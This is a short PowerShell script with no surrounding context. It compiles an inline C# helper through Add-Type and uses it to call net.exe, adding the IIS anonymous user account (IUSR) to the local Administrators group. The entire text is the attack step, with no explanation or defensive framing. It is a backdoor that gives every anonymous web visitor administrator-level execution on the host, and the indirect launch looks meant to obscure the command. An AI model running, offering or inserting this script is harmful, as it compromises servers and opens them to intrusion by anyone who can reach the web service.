Add-Type -TypeDefinition @'
using System.Diagnostics;
public static class R { public static void Do(string a) { Process.Start("net.exe", a); } }
'@
[R]::Do('localgroup Administrators IUSR /add')
